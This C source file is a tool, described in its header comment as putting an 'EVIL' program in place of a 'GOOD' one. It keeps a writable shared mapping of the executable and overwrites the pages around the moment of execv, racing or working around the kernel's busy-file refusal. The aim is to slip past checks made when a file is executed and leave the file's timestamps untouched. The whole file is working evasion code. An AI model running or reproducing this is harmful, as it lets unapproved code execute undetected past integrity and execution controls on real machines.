/* Puts one program in the place of another through a mapping, which leaves no trace in the times of
   the file: `remap PATH GOOD EVIL`, or with a fourth argument while the execution is judged. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char *mapped, *evil;
static size_t size;
static unsigned delay;

static char *slurp(const char *path)
{
    struct stat st;
    int fd = open(path, O_RDONLY);
    fstat(fd, &st);
    size = st.st_size;
    return mmap(0, size, PROT_READ, MAP_PRIVATE, fd, 0);
}

static void *replace(void *unused)
{
    (void)unused;
    usleep(delay);
    memcpy(mapped, evil, size);
    munmap(mapped, size);
    return 0;
}

int main(int argc, char **argv)
{
    char *good = slurp(argv[2]);
    char *arguments[] = { argv[1], 0 };
    evil = slurp(argv[3]);
    for (int i = 0; i < (argc > 4 ? 200 : 1); i++) {
        unlink(argv[1]);
        pid_t child = fork();
        if (child) {
            int status;
            waitpid(child, &status, 0);
            continue;
        }
        int fd = open(argv[1], O_RDWR | O_CREAT | O_EXCL, 0755);
        if (write(fd, good, size) != (ssize_t)size)
            return 2;
        mapped = mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        close(fd);
        /* The page is writable from here on, so the change will not be noticed. */
        for (size_t at = 0; at < size; at += 4096)
            ((volatile char *)mapped)[at] = good[at];
        if (argc > 4) {
            pthread_t thread;
            delay = i * 3;
            pthread_create(&thread, 0, replace, 0);
            while (execv(argv[1], arguments) && errno == ETXTBSY)
                ;
            _exit(1);
        }
        /* Judged as what it is, and refused by the kernel because it is open for writing. */
        if (execv(argv[1], arguments) == 0 || errno != ETXTBSY)
            _exit(3);
        replace(0);
        execv(argv[1], arguments);
        _exit(1);
    }
    return 0;
}
